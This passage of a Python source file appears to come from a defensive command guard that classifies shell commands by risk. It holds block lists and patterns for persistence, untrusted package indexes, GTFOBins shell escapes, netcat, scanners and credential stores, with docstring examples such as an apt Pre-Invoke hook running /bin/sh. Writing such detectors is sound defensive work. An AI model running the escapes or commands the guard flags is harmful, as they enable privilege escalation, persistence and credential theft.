        return
    ctx.facts.tag("persistence")
    ctx.facts.propose("shell:exec", Severity.HIGH)
    if cmd.stdin is not None and name in ("at", "batch", "crontab"):
        for line in cmd.stdin.splitlines()[:32]:
            fields = line.split(None, 5) if name == "crontab" else [line]
            if fields and not line.lstrip().startswith("#"):
                ctx.recurse(fields[-1])


# Registry keys whose values Windows runs at logon, compared without separators (an
# unquoted ``HKCU\Software\…\Run`` reaches us with its backslashes removed by the shell).
_REG_AUTORUN = re.compile(
    r"currentversion(?:run|runonce|runservices|policiesexplorerrun)$|winlogon$|"
    r"imagefileexecutionoptions"
)


def _windows_persist(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """Windows autostarts: ``schtasks /create``, ``sc create``, ``reg add`` to a Run key."""
    name = ctx.binary(argv[0])
    words = [a.lower() for a in argv[1:]]
    if (
        (name == "schtasks" and "/create" in words)
        or (name == "sc" and words[:1] == ["create"])
        or (
            name == "reg"
            and words[:1] == ["add"]
            and any(_REG_AUTORUN.search(re.sub(r"[\\/ ]", "", w)) for w in words)
        )
    ):
        ctx.facts.tag("persistence")
        ctx.facts.propose("shell:exec", Severity.HIGH)
    ctx.generic(argv, cmd)


_DEFAULT_INDEXES = frozenset({"pypi.org", "files.pythonhosted.org", "pypi.python.org",
                              "registry.npmjs.org", "registry.yarnpkg.com",
                              "rubygems.org", "crates.io", "proxy.golang.org",
                              "download.pytorch.org", "pypi.nvidia.com"})  # fmt: skip
_INDEX_FLAGS = frozenset({"-i", "--index-url", "--extra-index-url", "-f", "--find-links",
                          "--registry", "--source", "--trusted-host", "--index",
                          "--default-index", "--proxy"})  # fmt: skip
_INSTALL_WORDS = frozenset({"install", "i", "add", "ci", "update", "upgrade", "sync"})


def _package(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """Package installs: ordinary from the default registries, reviewed from a raw IP,
    plain HTTP or another index (``pip install -i http://10.0.0.5/simple evil``)."""
    ops = ctx.operands(argv)
    if ops[:2] == ["config", "set"] and len(ops) >= 4:
        key = ops[2].lower()
        if key.endswith(("registry", "index-url", "index", "extra-index-url", "find-links")):
            argv = [argv[0], "install", "--registry", ops[3]]
            ops = ["install"]
    if not set(ops[:2]) & _INSTALL_WORDS:
        ctx.generic(argv, cmd)
        return
    sources: list[str] = []
    for i, arg in enumerate(argv[1:], 1):
        flag, eq, value = arg.partition("=")
        if flag in _INDEX_FLAGS:
            sources.append(value if eq else (argv[i + 1] if i + 1 < len(argv) else ""))
        elif "://" in arg and not arg.startswith("-"):
            sources.append(arg.split("+", 1)[-1] if arg.startswith("git+") else arg)
    for source in sources:
        dest = parse_destination(source if "://" in source else "https://" + source)
        if dest is None:
            continue
        ctx.facts.resource(dest.host)
        raw_ip = re.fullmatch(r"[\d.]+|\[?[0-9a-fA-F:]+\]?", dest.host) is not None
        if raw_ip or source.startswith("http://") or dest.host not in _DEFAULT_INDEXES:
            ctx.facts.tag("untrusted_package_source")
            ctx.facts.propose("net:download", Severity.HIGH)
    ctx.facts.propose("net:download")


def _repository_install(argv: list[str]) -> bool:
    """A plain install from the distribution's repositories, of no program whose use the
    guard stops (``sudo apt-get install nmap`` prepares a scan: root stays a privilege)."""
    op = read_system_package(argv)
    return (
        op is not None
        and op.from_repositories
        and not any(HANDLERS.get(name) is _scanner for name in op.packages)
    )


def _system_package(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """A distribution package manager (apt, dnf, zypper, apk, pacman): packages from the
    configured repositories are ordinary; a package URL or file is an untrusted source
    (its maintainer scripts run as root), and a hook option runs a command of its own
    (``apt-get update -o APT::Update::Pre-Invoke::=/bin/sh``, GTFOBins)."""
    op = read_system_package(argv)
    if op is None:
        ctx.generic(argv, cmd)
        return
    for command in op.commands:
        _opaque(ctx, "a package manager hook runs a command")
        ctx.facts.tag("code_exec")
        ctx.recurse(command)
    for source in op.sources:
        dest = parse_destination(source)
        if dest is not None:
            ctx.facts.resource(dest.host)
    for path in op.files:
        ctx.read(path)
    if op.sources or op.files:
        ctx.facts.tag("untrusted_package_source")
        ctx.facts.propose("net:download", Severity.HIGH)
    elif op.from_repositories:
        ctx.facts.propose("net:download")
    else:
        ctx.generic(argv, cmd)


def _login_cli(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.tag("auth_attempt")
    ctx.facts.propose("identity:login")


# Options through which a program runs a shell command of its own (GTFOBins' "shell"
# escapes): the value is a command line, read like one.
_ESCAPE_OPTIONS: Mapping[str, frozenset[str]] = MappingProxyType(
    {
        "tar": frozenset({"--checkpoint-action", "--to-command", "--use-compress-program",
                          "--info-script", "--new-volume-script", "-I", "-F"}),
        "zip": frozenset({"-TT", "--unzip-command"}),
        "rsync": frozenset({"-e", "--rsh"}),
        "scp": frozenset({"-S"}),
        "script": frozenset({"-c", "--command"}),
        "runuser": frozenset({"-c", "--command"}),
        "make": frozenset({"--eval"}),
        "vim": frozenset({"-c", "--cmd"}), "vi": frozenset({"-c", "--cmd"}),
        "nvim": frozenset({"-c", "--cmd"}), "ex": frozenset({"-c"}), "view": frozenset({"-c"}),
    }
)  # fmt: skip
_EXEC_CONFIG = re.compile(
    r"^(?:core\.(?:pager|editor|sshcommand|fsmonitor|hookspath)|diff\.external|"
    r"sequence\.editor|alias\.[\w-]+|(?:pager|filter)\.[\w.-]+|gpg\.program|"
    r"credential\.helper)=(.+)$",
    re.IGNORECASE,
)
_SSH_COMMANDS = re.compile(r"^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ](.+)$", re.I)
_AWK_COMMANDS = re.compile(
    r"system\s*\(\s*\"([^\"]{1,2048})\"|\"([^\"]{1,2048})\"\s*\|\s*getline|"
    r"\|\s*\"([^\"]{1,2048})\""
)
_EDITOR_COMMAND = re.compile(r"^(?::|\+)?\s*!(.+)$|system\(\s*['\"]([^'\"]+)['\"]")
_AWK = frozenset({"awk", "gawk", "mawk", "nawk", "busybox-awk"})
_ESCAPING = frozenset(_ESCAPE_OPTIONS) | _AWK | {"git", "ssh", "scp", "sftp", "rsync", "make"}


def embedded_commands(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """Command lines a program runs through its own options or script: ``tar
    --checkpoint-action=exec=…``, ``git -c core.pager=…``, ``vim -c ':!…'``, ``awk
    'BEGIN{system("…")}'``, ``ssh -o ProxyCommand=…``, ``make`` recipes on stdin."""
    if not argv:
        return
    name = ctx.binary(argv[0])
    if name not in _ESCAPING:
        return
    found: list[str] = []
    options = _ESCAPE_OPTIONS.get(name)
    for i, arg in enumerate(argv[1:], 1):
        nxt = argv[i + 1] if i + 1 < len(argv) else ""
        flag, eq, inline = arg.partition("=")
        value = inline if eq else nxt
        if options is not None:
            if flag in options:
                found.append(value)
            elif arg[:1] == "-" != arg[1:2] and "-" + arg[-1:] in options and arg[1:].isalpha():
                found.append(nxt)  # a cluster ending in the option: ``script -qc CMD``
            elif arg[:2] in options and len(arg) > 2 and not arg.startswith("--"):
                found.append(arg[2:])  # glued short option: -Icmd
        if name in ("git",) and arg == "-c":
            m = _EXEC_CONFIG.match(nxt)
            if m is not None:
                found.append(m.group(1).lstrip("!"))
        elif name in ("ssh", "scp", "sftp", "rsync") and (arg == "-o" or arg.startswith("-o")):
            m = _SSH_COMMANDS.match(nxt if arg == "-o" else arg[2:])
            if m is not None:
                found.append(m.group(1))
        elif name in _AWK and not arg.startswith("-"):
            for m in _AWK_COMMANDS.finditer(arg):
                found.append(next(g for g in m.groups() if g))
        elif arg.startswith("+") and name in ("vim", "vi", "nvim", "ex", "view"):
            found.append(arg[1:])
    if name in ("vim", "vi", "nvim", "ex", "view"):
        found = [c for v in found for c in _editor_commands(v)]
    elif name == "tar":
        found = [v.removeprefix("exec=") for v in found]
    if name == "make" and cmd.stdin is not None:
        found += [line.strip() for line in cmd.stdin.splitlines() if line.startswith("\t")]
    for command in found[:16]:
        if command in cmd.dynamic:
            _opaque(ctx, "a program runs a command computed at run time")
        elif command.strip():
            ctx.facts.tag("code_exec")
            ctx.recurse(command)


def _editor_commands(value: str) -> list[str]:
    m = _EDITOR_COMMAND.search(value)
    if m is None:
        return []
    return [m.group(1) or m.group(2)]


def run_argv(
    argv: list[str], ctx: Context, *, dynamic: set[str] | None = None, piped_in: bool = False
) -> None:
    """Judge one argument vector read by another shell's reader (PowerShell), as the
    program family it names; ``dynamic``: the words computed at run time."""
    cmd = SimpleCommand(argv=argv, dynamic=set(dynamic or ()), piped_in=piped_in)
    if argv and argv[0] in cmd.dynamic:
        _opaque(ctx, "the program is computed at run time")
        return
    program = argv[0] if argv and ("/" in argv[0] or argv[0][:1] in ("~", ".")) else ""
    found = ctx.place(program) if program else None
    if found is not None and ctx.session.fetched(found[0]):
        _fetched_code(ctx)  # ``iwr … -OutFile p.exe; Start-Process ./p.exe``
    if found is not None and run_written(found[0], ctx):
        return
    _dispatch(argv, cmd, ctx)


def _dispatch(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    argv = ctx.unwrap(argv)
    if not argv:
        return
    embedded_commands(argv, cmd, ctx)
    handler = HANDLERS.get(ctx.binary(argv[0]))
    if handler is not None:
        handler(argv, cmd, ctx)
    else:
        ctx.generic(argv, cmd)


def _table() -> dict[str, Handler]:
    families: tuple[tuple[Handler, str], ...] = (
        (_recon, "whoami id uname hostname hostnamectl ps pstree netstat ss ifconfig arp route "
                 "lsb_release df mount w who last lastlog users groups getent lscpu lsblk lsmod "
                 "lsof dmesg arch uptime finger pinky ipconfig systeminfo tasklist nproc free "
                 "getcap sestatus aa-status"),
        (_ip, "ip"),
        (_env_dump, "printenv"),
        (_set, "set export declare typeset"),
        (_echo, "echo printf"),
        (_grep, "grep egrep fgrep rg ag ack zgrep findstr"),
        (_find, "find"),
        (_listers, "ls ll dir tree stat file du exa eza locate"),
        (_rm, "rm unlink rmdir srm"),
        (_shred, "shred wipe wipefs"),
        (_disk, "dd mkfs mkfs.ext4 mkfs.ext3 mkfs.ext2 mkfs.xfs mkfs.btrfs mkfs.vfat mkfs.fat "
                "mkfs.ntfs mke2fs mkswap fdisk sfdisk parted format diskpart"),
        (_copy, "cp mv install ln rsync_local"),
        (_tee, "tee"),
        (_touch, "touch mkdir truncate"),
        (_sed, "sed perl_i"),
        (_editor, "vi vim nvim nano emacs ed pico joe mcedit"),
        (_chmod, "chmod"),
        (_chown, "chown chgrp"),
        (_privilege, "su visudo usermod useradd adduser userdel deluser groupadd gpasswd passwd "
                     "chpasswd setcap capsh nsenter unshare newgrp insmod modprobe sudoedit"),
        (_shell, " ".join(sorted(_SHELLS))),
        (_powershell, "pwsh powershell"),
        (_reverse_socket_builtin, "ztcp"),
        (_cmd_exe, "cmd"),
        (_interpreter, " ".join(sorted(_INTERPRETERS)) + " python3 python2 node osascript"),
        (_eval, "eval"),
        (_source, "source ."),
        (_curl, "curl wget"),
        (_httpie, "http https xh"),
        (_fetcher, "lwp-download lwp-request lwp-mirror aria2c axel fetch"),
        (_netcat, "nc ncat netcat socat telnet"),
        (_ssh, "ssh mosh"),
        (_remote_copy, "scp sftp rsync ftp tftp lftp"),
        (_zfs, "zpool zfs"),
        (_dns, "dig nslookup host ping ping6 traceroute tracepath"),
        (_scanner, "nmap masscan zmap nikto gobuster dirb ffuf sqlmap hydra medusa ncrack "
                   "patator crackmapexec nxc enum4linux smbclient john hashcat unshadow "
                   "linpeas.sh linpeas pspy"),
        (_mail, "mail mailx sendmail mutt swaks"),
        (_sshpass, "sshpass"),
        (_git, "git"),
        (_sql_client, "psql mysql mariadb sqlite3 sqlite clickhouse-client mongo mongosh sqlcmd "
                      "cqlsh duckdb"),
        (_dump, "pg_dump pg_dumpall mysqldump mariadb-dump mongodump mongoexport"),
        (_dropdb, "dropdb"),
        (_stripe, "stripe"),
        (_redis, "redis-cli"),
        (_kubectl, "kubectl oc"),
        (_docker, "docker podman nerdctl"),
        (_iac, "terraform tofu pulumi helm"),
        (_cloud, "aws gcloud gsutil az doctl rclone heroku"),
        (_vault, "vault security pass op keyring secret-tool gpg gh docker-credential-desktop "
                 "bw lpass"),
        (_power, "shutdown reboot halt poweroff init systemctl kill pkill killall iptables "
                 "crontab history"),
        (_login_cli, "kinit ldapwhoami"),
        (_persist, "at batch launchctl update-rc.d chkconfig rc-update systemd-run"),
        (_archive, "tar unzip"),
        (_cd, "cd pushd"),
        (_security_off, "setenforce ufw auditctl aa-teardown"),
        (_history_evasion, "unset shopt"),
        (_windows_persist, "schtasks sc reg"),
        (_package, "pip pip3 pipx uv npm pnpm yarn gem cargo go"),
        (_system_package, " ".join(sorted(MANAGERS))),
    )  # fmt: skip
    table: dict[str, Handler] = {}
    for handler, names in families:
        for name in names.split():
            table.setdefault(name, handler)
    return table


HANDLERS: Mapping[str, Handler] = MappingProxyType(_table())
